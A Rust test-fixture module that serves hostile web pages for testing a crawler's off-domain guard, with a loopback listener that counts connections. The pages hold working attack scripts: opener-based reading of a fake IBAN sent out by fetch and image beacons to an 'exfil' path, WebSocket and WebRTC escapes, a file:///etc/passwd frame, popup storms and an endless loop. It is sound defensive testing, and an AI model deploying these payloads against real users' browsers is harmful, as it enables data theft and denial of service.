//! Hostile pages, for gleaner's tests of the ways out of its off-domain guard, and a
//! [`Sentinel`]: a listener on another loopback address that counts every TCP connection,
//! byte and UDP datagram that reaches it. Each page takes the address to attack as `?to=`
//! (`127.0.0.2:40000`) and sets `window.settled` to a promise that resolves once its
//! attack has either worked or failed, so a test waits on it instead of on time.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use axum::Router;
use axum::extract::Query;
use axum::http::StatusCode;
use axum::response::Response;
use axum::routing::get;
use tokio::net::{TcpListener, UdpSocket};
use tokio::task::JoinHandle;

use crate::render::html_response;

/// The routes, under `/hostile/`.
pub fn routes<S: Clone + Send + Sync + 'static>() -> Router<S> {
    Router::new()
        .route("/hostile/popup", get(popup))
        .route("/hostile/reader", get(reader))
        .route("/hostile/flood", get(flood))
        .route("/hostile/blank", get(blank))
        .route("/hostile/websocket", get(websocket))
        .route("/hostile/webrtc", get(webrtc))
        .route("/hostile/preconnect", get(preconnect))
        .route("/hostile/ports", get(ports))
        .route("/hostile/local-frames", get(local_frames))
        .route("/hostile/spin", get(spin))
        .route("/hostile/storm", get(storm))
        .route("/hostile/storm-child", get(storm_child))
}

type Params = Query<HashMap<String, String>>;

/// `?to=`, kept to characters of a host and port so that it cannot break out of the page.
fn target(q: &Params) -> String {
    q.get("to")
        .map(|t| {
            t.chars()
                .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | ':' | '-' | '[' | ']'))
                .collect()
        })
        .unwrap_or_default()
}

fn page(title: &str, body: &str) -> Response {
    html_response(
        StatusCode::OK,
        format!(
            "<!doctype html>\n<html lang=\"fr\"><head><meta charset=\"utf-8\"><title>{title}</title></head>\n<body>\n<h1 id=\"title\">{title}</h1>\n<p id=\"iban\">FR76 3000 6000 0112 3456 7890 189</p>\n{body}\n</body></html>"
        ),
    )
}

/// `#open` opens the other host in a popup; `#blank` is a `target=_blank` link there;
/// `#same` opens a same-origin popup that reads this page through `opener` and sends the
/// IBAN to the other host with `fetch` and an image.
async fn popup(q: Params) -> Response {
    let to = target(&q);
    page(
        "Fenêtres",
        &format!(
            r#"<button id="open" onclick="window.open('http://{to}/popup')">Ouvrir</button>
<a id="blank" href="http://{to}/blank" target="_blank">Lien</a>
<button id="same" onclick="window.open('/hostile/reader?to={to}')">Même origine</button>"#
        ),
    )
}

async fn reader(q: Params) -> Response {
    let to = target(&q);
    page(
        "Lecteur",
        &format!(
            r#"<script>
const iban = encodeURIComponent(window.opener ? window.opener.document.getElementById('iban').textContent : 'none');
fetch('http://{to}/exfil-fetch?d=' + iban, {{ mode: 'no-cors' }}).catch(() => {{}});
new Image().src = 'http://{to}/exfil-image?d=' + iban;
</script>"#
        ),
    )
}

/// `#flood` tries to open 100 tabs at once; `window.opened` counts those that opened.
async fn flood() -> Response {
    page(
        "Déluge",
        r#"<script>window.opened = 0;</script>
<button id="flood" onclick="for (let i = 0; i < 100; i++) if (window.open('/hostile/blank?n=' + i, '_blank')) window.opened++">Déluge</button>"#,
    )
}

async fn blank() -> Response {
    page("Vide", "")
}

async fn websocket(q: Params) -> Response {
    let to = target(&q);
    page(
        "WebSocket",
        &format!(
            r#"<script>
window.settled = new Promise((done) => {{
  try {{
    const ws = new WebSocket('ws://{to}/socket');
    ws.onopen = () => {{ ws.send(document.getElementById('iban').textContent); done('open'); }};
    ws.onerror = () => done('error');
    ws.onclose = () => done('closed');
  }} catch (e) {{ done('refused'); }}
}});
</script>"#
        ),
    )
}

/// ICE gathering against STUN and TURN (UDP and TCP) servers on the other host.
async fn webrtc(q: Params) -> Response {
    let to = target(&q);
    page(
        "WebRTC",
        &format!(
            r#"<script>
window.settled = new Promise((done) => {{
  if (typeof RTCPeerConnection === 'undefined') {{ done('absent'); return; }}
  try {{
    const pc = new RTCPeerConnection({{ iceServers: [
      {{ urls: 'stun:{to}' }},
      {{ urls: ['turn:{to}?transport=udp', 'turn:{to}?transport=tcp'], username: 'u', credential: 'p' }},
    ] }});
    const kinds = new Set();
    pc.onicecandidate = (e) => {{ if (e.candidate) kinds.add(e.candidate.type); }};
    pc.onicegatheringstatechange = () => {{
      if (pc.iceGatheringState === 'complete') done([...kinds].sort().join(' ') || 'none');
    }};
    pc.createDataChannel('x');
    pc.createOffer().then((o) => pc.setLocalDescription(o)).catch(() => done('failed'));
    // A deadline: gathering against a silent server can last long.
    setTimeout(() => done('timeout ' + ([...kinds].sort().join(' ') || 'none')), 4000);
  }} catch (e) {{ done('refused'); }}
}});
</script>"#
        ),
    )
}

/// `preconnect` and `dns-prefetch` hints to the other host, and a link to it.
async fn preconnect(q: Params) -> Response {
    let to = target(&q);
    page(
        "Préconnexion",
        &format!(
            r#"<link rel="preconnect" href="http://{to}">
<link rel="dns-prefetch" href="http://{to}">
<link rel="preconnect" href="http://{to}/" crossorigin>
<a id="hover" href="http://{to}/hover">Survol</a>
<script>window.settled = Promise.resolve('hinted');</script>"#
        ),
    )
}

/// Reads the other origin with `fetch`, XHR and a dedicated worker.
async fn ports(q: Params) -> Response {
    let to = target(&q);
    page(
        "Ports",
        &format!(
            r#"<script>
const url = (how) => 'http://{to}/read-' + how;
const viaFetch = fetch(url('fetch')).then((r) => r.text()).then(() => true, () => false);
const viaXhr = new Promise((done) => {{
  const x = new XMLHttpRequest();
  x.open('GET', url('xhr'));
  x.onload = () => done(true);
  x.onerror = () => done(false);
  x.send();
}});
const viaWorker = new Promise((done) => {{
  const src = "fetch('" + url('worker') + "').then(() => postMessage(true), () => postMessage(false));";
  const w = new Worker(URL.createObjectURL(new Blob([src], {{ type: 'text/javascript' }})));
  w.onmessage = (e) => done(e.data);
  w.onerror = () => done(false);
}});
window.settled = Promise.all([viaFetch, viaXhr, viaWorker]).then((r) => r.join(' '));
</script>"#
        ),
    )
}

/// Frames on local schemes, in the markup and added by script: Chromium never loads them,
/// and without gleaner's script a navigation's wait for every frame's `load` held `goto`
/// until its timeout.
async fn local_frames() -> Response {
    page(
        "Cadres locaux",
        r#"<iframe id="passwd" src="file:///etc/passwd"></iframe>
<object data="view-source:file:///etc/hostname"></object>
<script>
const f = document.createElement('iframe');
f.src = 'chrome://version';
document.body.appendChild(f);
</script>"#,
    )
}

/// `#storm` opens a popup that, as it loads, opens three more of itself, and so on.
async fn storm() -> Response {
    page(
        "Tempête",
        r#"<button id="storm" onclick="window.open('/hostile/storm-child')">Tempête</button>"#,
    )
}

async fn storm_child() -> Response {
    page(
        "Tempête",
        r#"<script>for (let i = 0; i < 3; i++) window.open('/hostile/storm-child');</script>"#,
    )
}

/// Loads, then keeps its renderer's main thread busy for ever (a script that never yields).
async fn spin() -> Response {
    page(
        "Boucle",
        r#"<script>window.addEventListener('load', () => setTimeout(() => { for (;;) {} }, 100));</script>"#,
    )
}

/// A listener that no connector lists: counts the TCP connections and bytes, and the UDP
/// datagrams, that reach it. It answers each request with `204` and closes.
pub struct Sentinel {
    addr: SocketAddr,
    counts: Arc<Counts>,
    tasks: Vec<JoinHandle<()>>,
}

#[derive(Default)]
struct Counts {
    connections: AtomicU64,
    bytes: AtomicU64,
    datagrams: AtomicU64,
    /// Woken on each connection and datagram.
    arrived: tokio::sync::Notify,
}

impl Sentinel {
    /// Binds TCP and UDP on `ip:0` (the same port for both). On Linux all of 127/8 is
    /// the loopback, so `127.0.0.2` is another host as far as the browser knows.
    pub async fn start(ip: &str) -> std::io::Result<Sentinel> {
        let tcp = TcpListener::bind((ip, 0)).await?;
        let addr = tcp.local_addr()?;
        let udp = UdpSocket::bind(addr).await?;
        let counts = Arc::new(Counts::default());
        let c = counts.clone();
        let accept = tokio::spawn(async move {
            while let Ok((stream, _)) = tcp.accept().await {
                c.connections.fetch_add(1, Ordering::SeqCst);
                c.arrived.notify_waiters();
                let c = c.clone();
                tokio::spawn(async move {
                    let mut buf = vec![0u8; 64 * 1024];
                    // Read what comes within a short deadline, answer, close.
                    let read = async {
                        loop {
                            if stream.readable().await.is_err() {
                                return;
                            }
                            match stream.try_read(&mut buf) {
                                Ok(0) => return,
                                Ok(n) => {
                                    c.bytes.fetch_add(n as u64, Ordering::SeqCst);
                                    let _ = stream.try_write(
                                        b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n",
                                    );
                                    return;
                                }
                                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                                Err(_) => return,
                            }
                        }
                    };
                    let _ = tokio::time::timeout(Duration::from_secs(5), read).await;
                });
            }
        });
        let c = counts.clone();
        let datagrams = tokio::spawn(async move {
            let mut buf = vec![0u8; 64 * 1024];
            while udp.recv_from(&mut buf).await.is_ok() {
                c.datagrams.fetch_add(1, Ordering::SeqCst);
                c.arrived.notify_waiters();
            }
        });
        Ok(Sentinel {
            addr,
            counts,
            tasks: vec![accept, datagrams],
        })
    }

    /// `127.0.0.2:40000`.
    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    pub fn connections(&self) -> u64 {
        self.counts.connections.load(Ordering::SeqCst)
    }

    pub fn bytes(&self) -> u64 {
        self.counts.bytes.load(Ordering::SeqCst)
    }

    pub fn datagrams(&self) -> u64 {
        self.counts.datagrams.load(Ordering::SeqCst)
    }

    /// Waits until something reached the sentinel, up to `timeout`. Returns whether it did.
    pub async fn wait_for_contact(&self, timeout: Duration) -> bool {
        let contacted = || self.connections() + self.datagrams() > 0;
        let wait = async {
            loop {
                let arrived = self.counts.arrived.notified();
                if contacted() {
                    return;
                }
                arrived.await;
            }
        };
        tokio::time::timeout(timeout, wait).await.is_ok() || contacted()
    }

    /// Connections, bytes and datagrams, for assertion messages.
    pub fn summary(&self) -> String {
        format!(
            "{} connections, {} bytes, {} datagrams",
            self.connections(),
            self.bytes(),
            self.datagrams()
        )
    }
}

impl Drop for Sentinel {
    fn drop(&mut self) {
        for t in &self.tasks {
            t.abort();
        }
    }
}
